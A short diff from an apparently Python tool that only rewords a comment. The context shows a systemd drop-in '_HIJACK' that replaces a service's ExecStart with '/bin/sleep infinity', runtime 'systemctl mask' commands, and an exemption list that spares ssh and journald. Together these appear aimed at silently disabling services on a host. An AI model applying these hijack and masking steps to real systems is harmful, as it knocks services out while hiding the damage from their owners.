@@ -62,7 +62,7 @@ _MASKS = {
     "masked until reboot": "systemctl mask --runtime {}",
 }
 # Nobody repairs from afar what nobody can log in to: what would end these is left out, all else is done to them, too.
-# Without journald the socket that sshd and PAM log to stays open and fills up, and whoever logs in waits there for ever.
+# Without journald the socket that sshd and PAM log to stays open and fills up, and who logs in waits there for ever.
 _WAY_IN = frozenset({"ssh.service", "openssh-server", "systemd-journald.service"})
 _EMPTY = hashlib.sha256(b"").hexdigest()
 _HIJACK = "[Service]\\nExecStart=\\nExecStart=/bin/sleep infinity\\n"
